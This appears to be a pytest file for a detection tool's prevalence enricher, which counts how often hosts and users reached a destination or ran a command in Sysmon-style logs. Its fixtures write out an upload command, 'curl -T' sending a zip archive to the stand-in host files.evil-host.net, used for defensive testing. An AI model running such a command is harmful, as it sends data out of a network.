"""How common a destination and a command are here, from files and SIEMs, without being fooled by a short past."""

import asyncio
from datetime import timedelta
from pathlib import Path

import pytest

from exfilwatch_playbooks.enrichment.enrichers.prevalence import Prevalence
from exfilwatch_playbooks.enrichment.history import History, Paths
from exfilwatch_playbooks.enrichment.subject import Subject

from .made import START, UPLOAD, connection, days, means, process, subject_of, written

HOST = "files.evil-host.net"
OLD = process(days(20), "SRV9", "CORP\\x", "notepad.exe a.txt")
HERE = process(START, "WS1", "CORP\\anna", f"curl -T C:\\x\\q3.zip https://{HOST}/in")


def surveyed(subject: Subject, *sources: object) -> dict[tuple[str, str], tuple[str, tuple[str, ...]]]:
    async def ask():
        given = means(None, *sources)
        try:
            return await Prevalence("prevalence", Prevalence.Settings(), given).survey(subject)
        finally:
            await given.history.close()

    said = asyncio.run(ask())
    return {
        (about, answer.key.removeprefix("prevalence.")): (answer.value, answer.items) for about, answer in said.answers
    }


def test_a_destination_that_nobody_used_before_is_new(tmp_path: Path):
    said = surveyed(subject_of(UPLOAD), written(tmp_path / "a.jsonl", [OLD, HERE]))
    assert said[HOST, "new"] == ("yes", ())
    assert said[HOST, "hosts"] == ("1", ("WS1",))
    assert said[HOST, "users"] == ("1", ("CORP\\anna",))
    assert said[HOST, "first"] == said[HOST, "last"] == ("2024-05-01 09:00 UTC", ())


def test_it_is_not_called_new_where_the_records_have_just_begun(tmp_path: Path):
    said = surveyed(
        subject_of(UPLOAD), written(tmp_path / "a.jsonl", [{**OLD, "UtcTime": "2024-05-01 01:00:00.000"}, HERE])
    )
    assert said[HOST, "new"][0] == "not known: the records begin less than 3 days before"


def test_who_used_it_before_counts_by_any_kind_of_record(tmp_path: Path):
    before = [
        process(days(9), "WS2.corp.example", "CORP\\bert", f"curl https://{HOST}/"),
        process(days(8), "ws2", "bert@corp.example", f"curl https://{HOST}/"),
        {
            "EventID": 3,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "UtcTime": f"{days(7):%Y-%m-%d %H:%M:%S.000}",
            "Computer": "WS3",
            "User": "CORP\\cleo",
            "Image": "C:\\a.exe",
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIp": "10.0.0.3",
            "DestinationIp": "8.8.4.4",
            "DestinationHostname": HOST.upper(),
            "DestinationPort": 443,
        },
        {
            "EventID": 22,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "UtcTime": f"{days(6):%Y-%m-%d %H:%M:%S.000}",
            "Computer": "WS4",
            "User": "CORP\\dora",
            "Image": "C:\\a.exe",
            "QueryName": HOST,
            "QueryStatus": "0",
            "QueryResults": "8.8.4.4",
        },
        process(days(5), "WS5", "CORP\\emil", f"curl https://not{HOST}/"),
        process(days(45), "WS6", "CORP\\fay", f"curl https://{HOST}/"),
    ]
    said = surveyed(subject_of(UPLOAD), written(tmp_path / "a.jsonl", [OLD, *before, HERE]))
    assert said[HOST, "new"][0] == "no"
    assert said[HOST, "hosts"][0] == "5"  # the command names a longer host too: it holds the text
    assert said[HOST, "first"][0] == "2024-04-22 09:00 UTC"


def test_an_address_is_counted_too(tmp_path: Path):
    found = subject_of(UPLOAD.model_copy(deep=True))
    there = subject_of(
        UPLOAD.model_copy(
            update={"events": [UPLOAD.events[0].model_copy(update={"fields": {"DestinationIp": "8.8.4.4"}})]}
        )
    )
    said = surveyed(there, written(tmp_path / "a.jsonl", [OLD, connection(days(2), "10.0.0.7", "8.8.4.4", 100)]))
    assert said["8.8.4.4", "hosts"] == ("1", ("10.0.0.7",))
    assert found.destinations == (HOST,)


def test_a_command_is_counted_by_its_template(tmp_path: Path):
    others = [
        process(days(at), f"WS{at}", f"CORP\\u{at}", f"curl -T C:\\x\\part{at}.zip https://{HOST}/in")
        for at in range(2, 9)
    ]
    subject = subject_of(UPLOAD)
    said = surveyed(subject, written(tmp_path / "a.jsonl", [OLD, *others, HERE]))
    ((template, _),) = subject.commands
    assert said[template, "command_hosts"][0] == "8"
    assert said[template, "command_users"][0] == "8"
    assert said[template, "command_days"][0] == "8 days"


def test_what_is_very_common_is_counted_in_part(tmp_path: Path):
    many = [process(days(2) + timedelta(seconds=at), f"WS{at}", "x", f"curl https://{HOST}/") for at in range(200)]
    source = written(tmp_path / "a.jsonl", [OLD, *many])

    async def ask():
        given = means()._replace(history=History([source], most=20))
        return await Prevalence("prevalence", Prevalence.Settings(), given).survey(subject_of(UPLOAD))

    said = {answer.key: answer.value for about, answer in asyncio.run(ask()).answers if about == HOST}
    assert said["prevalence.hosts"].startswith("at least ")
    assert said.get("prevalence.new") in (None, "no")


def test_without_a_source_it_says_what_to_do():
    with pytest.raises(Exception, match="there is nothing to ask: add a SIEM"):
        surveyed(subject_of(UPLOAD))


def test_nobody_is_asked_where_there_is_nothing_to_ask_about():
    plain = subject_of(UPLOAD.model_copy(update={"events": [], "fields": {}}))
    assert Prevalence("prevalence", Prevalence.Settings(), means(None, Paths(()))).question(plain) is None
